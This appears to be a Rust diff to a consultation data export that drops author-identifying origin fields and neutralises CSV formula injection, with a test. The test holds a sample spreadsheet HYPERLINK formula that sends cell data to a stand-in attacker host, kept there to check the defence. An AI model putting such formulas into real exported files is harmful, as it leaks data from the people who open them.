@@ -2,7 +2,9 @@
 //! authors (a salted hash, never a handle or Matrix id), official answers, the moderation log
 //! with rule ids and versions, and statistics — as JSON and as CSV tables.
 //! Only published comments carry their text; held, rejected, hidden and deleted ones are
-//! counted and listed without it.
+//! counted and listed without it. Nothing in it re-identifies an author: no actor URL, no
+//! status URL or object id of their post, no Matrix event or user id (each names the person).
+//! Every CSV cell that a spreadsheet would run as a formula is neutralised (`csv_cell`).
 
 use chrono::{DateTime, Utc};
 use serde::Serialize;
@@ -76,11 +78,6 @@ const COMMENT_COLUMNS: &[Column] = &[
         "string",
         "Pseudonym der verfassenden Person (gesalzener Hash; nur bei veröffentlichten Kommentaren)",
     ),
-    col(
-        "origin",
-        "string",
-        "Herkunft: ActivityPub-Objekt-URI oder Matrix-Event-ID (nur bei veröffentlichten Kommentaren)",
-    ),
     col("created_at", "dateTime", "Zeitpunkt des Kommentars"),
     col(
         "status",
@@ -94,6 +91,16 @@ const COMMENT_COLUMNS: &[Column] = &[
     ),
     col("rule_id", "string", "Regel der letzten Entscheidung"),
     col("rule_version", "integer", "Version dieser Regel"),
+    col(
+        "content_warning",
+        "string",
+        "Inhaltswarnung der verfassenden Person (nur bei veröffentlichten Kommentaren)",
+    ),
+    col(
+        "sensitive",
+        "boolean",
+        "Von der verfassenden Person als heikel markiert",
+    ),
     col(
         "text",
         "string",
@@ -137,12 +144,13 @@ pub struct PublicComment {
     pub parent_id: Option<i64>,
     pub network: &'static str,
     pub author: String,
-    pub origin: String,
     pub created_at: DateTime<Utc>,
     pub status: &'static str,
     pub late: bool,
     pub rule_id: Option<String>,
     pub rule_version: Option<i32>,
+    pub content_warning: Option<String>,
+    pub sensitive: bool,
     pub text: Option<String>,
 }
 
@@ -158,12 +166,13 @@ impl PublicComment {
             self.parent_id.map(|p| p.to_string()).unwrap_or_default(),
             self.network.into(),
             self.author.clone(),
-            self.origin.clone(),
             self.created_at.to_rfc3339(),
             self.status.into(),
             self.late.to_string(),
             self.rule_id.clone().unwrap_or_default(),
             self.rule_version.map(|v| v.to_string()).unwrap_or_default(),
+            self.content_warning.clone().unwrap_or_default(),
+            self.sensitive.to_string(),
             self.text.clone().unwrap_or_default(),
         ]
     }
@@ -186,6 +195,8 @@ pub struct CommentRow {
     pub origin_id: String,
     pub origin_url: Option<String>,
     pub content: Option<String>,
+    pub content_warning: Option<String>,
+    pub sensitive: bool,
     pub rule_id: Option<String>,
     pub rule_version: Option<i32>,
     pub reason: Option<String>,
@@ -230,6 +241,8 @@ impl Row for CommentRow {
             "string",
             "Text (Markdown); leer, wenn die Person ihn gelöscht hat",
         ),
+        col("content_warning", "string", "Inhaltswarnung (Klartext)"),
+        col("sensitive", "boolean", "Als heikel markiert"),
         col("rule_id", "string", "Regel der letzten Entscheidung"),
         col("rule_version", "integer", "Version dieser Regel"),
         col("reason", "string", "Begründung der letzten Entscheidung"),
@@ -252,6 +265,8 @@ impl From<&comment::Model> for CommentRow {
             origin_id: c.origin_id.clone(),
             origin_url: c.origin_url.clone(),
             content: c.content.clone(),
+            content_warning: c.content_warning.clone(),
+            sensitive: c.sensitive,
             rule_id: c.rule_id.clone(),
             rule_version: c.rule_version,
             reason: c.reason.clone(),
@@ -287,6 +302,7 @@ impl Table {
         json!({
             "url": self.file,
             "dc:title": [{"@value": self.title_de, "@language": "de"}, {"@value": self.title_en, "@language": "en"}],
+            "dc:description": NEUTRALISED,
             "tableSchema": schema,
         })
     }
@@ -355,12 +371,32 @@ pub fn pseudonym(salt: &str, author_id: &str) -> String {
     full
 }
 
-fn csv_string(header: &[&str], rows: Vec<Vec<String>>) -> Result<String> {
-    let mut w = csv::Writer::from_writer(Vec::new());
+/// What the CSVW metadata says about `csv_cell`, so readers can undo it.
+const NEUTRALISED: &str = "Zellen, die mit =, +, -, @, Tabulator oder Wagenrücklauf beginnen, ist ein Apostroph (') vorangestellt, damit Tabellenkalkulationen sie nicht als Formel ausführen (OWASP CSV Injection).";
+
+/// A cell a spreadsheet would run as a formula (or as DDE) starts with one of these (OWASP).
+const FORMULA_PREFIXES: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A CSV cell that no spreadsheet runs: a dangerous first character gets a `'` in front. The
+/// writer quotes every cell, so the apostrophe stays part of the value.
+pub fn csv_cell(value: &str) -> std::borrow::Cow<'_, str> {
+    if value.starts_with(FORMULA_PREFIXES) {
+        std::borrow::Cow::Owned(format!("'{value}"))
+    } else {
+        std::borrow::Cow::Borrowed(value)
+    }
+}
+
+/// Every CSV the project writes goes through here: header first, every cell neutralised and
+/// quoted (RFC 4180).
+pub fn csv_string(header: &[&str], rows: Vec<Vec<String>>) -> Result<String> {
+    let mut w = csv::WriterBuilder::new()
+        .quote_style(csv::QuoteStyle::Always)
+        .from_writer(Vec::new());
     w.write_record(header)
         .map_err(|e| Error::Invalid(e.to_string()))?;
     for row in rows {
-        w.write_record(&row)
+        w.write_record(row.iter().map(|cell| csv_cell(cell).into_owned()))
             .map_err(|e| Error::Invalid(e.to_string()))?;
     }
     let bytes = w.into_inner().map_err(|e| Error::Invalid(e.to_string()))?;
@@ -420,24 +456,22 @@ pub async fn consultation(app: &App, id: i64) -> Result<Export> {
         } else {
             String::new()
         };
-        // Provenance only for what is public anyway: a held or removed comment's origin would
-        // lead straight to its author.
-        let origin = if c.status == CommentStatus::Published {
-            c.origin_id.clone()
-        } else {
-            String::new()
-        };
+        // No origin: a status URL, object id or Matrix event id leads straight to its author.
+        let content_warning = (c.status == CommentStatus::Published)
+            .then(|| c.content_warning.clone())
+            .flatten();
         let row = PublicComment {
             id: c.id,
             parent_id: c.parent_comment_id,
             network,
             author,
-            origin,
             created_at: c.created_at,
             status: c.status.as_str(),
             late: c.late,
             rule_id: c.rule_id.clone(),
             rule_version: c.rule_version,
+            content_warning,
+            sensitive: c.sensitive,
             text,
         };
         comment_rows.push(row.cells());
@@ -704,12 +738,13 @@ mod tests {
             parent_id: Some(2),
             network: "matrix",
             author: "a".into(),
-            origin: "o".into(),
             created_at: t,
             status: "published",
             late: false,
             rule_id: Some("r".into()),
             rule_version: Some(1),
+            content_warning: Some("cw".into()),
+            sensitive: true,
             text: Some("x".into()),
         };
         assert_eq!(keys(&public), names(PublicComment::COLUMNS));
@@ -727,6 +762,8 @@ mod tests {
             origin_id: "https://social.example/notes/1".into(),
             origin_url: Some("https://social.example/@ursula/1".into()),
             content: Some("x".into()),
+            content_warning: None,
+            sensitive: false,
             rule_id: Some("r".into()),
             rule_version: Some(1),
             reason: Some("why".into()),
@@ -738,6 +775,53 @@ mod tests {
         assert_eq!(json["network"], "fediverse");
         assert_eq!(json["status"], "pending");
         assert_eq!(json["created_at"], "2026-07-01T10:00:00Z");
+    }
+
+    #[test]
+    fn every_formula_prefix_is_neutralised_and_quoted() {
+        let dangerous = [
+            "=1+1",
+            "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"klick\")",
+            "+49 30 1234",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        let rows: Vec<Vec<String>> = dangerous
+            .iter()
+            .map(|d| vec![(*d).to_owned(), "harmlos".to_owned()])
+            .collect();
+        let text = csv_string(&["a", "b"], rows).expect("csv");
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let read: Vec<String> = reader
+            .records()
+            .map(|r| r.expect("record")[0].to_owned())
+            .collect();
+        assert_eq!(read.len(), dangerous.len());
+        for (cell, original) in read.iter().zip(dangerous) {
+            assert_eq!(
+                cell,
+                &format!("'{original}"),
+                "read back with the apostrophe"
+            );
+        }
+        // Every cell is quoted in the file itself, the header too.
+        for line in text.lines().filter(|l| !l.is_empty()) {
+            assert!(line.starts_with('"'), "unquoted: {line:?}");
+        }
+        assert!(text.contains("\"'=1+1\""), "{text}");
+        for harmless in [
+            "1+1",
+            "Bäume",
+            "",
+            "a=b",
+            " =x",
+            "'quoted",
+            "2026-12-03T10:00:00+00:00",
+        ] {
+            assert_eq!(csv_cell(harmless), harmless);
+        }
     }
 
     #[test]
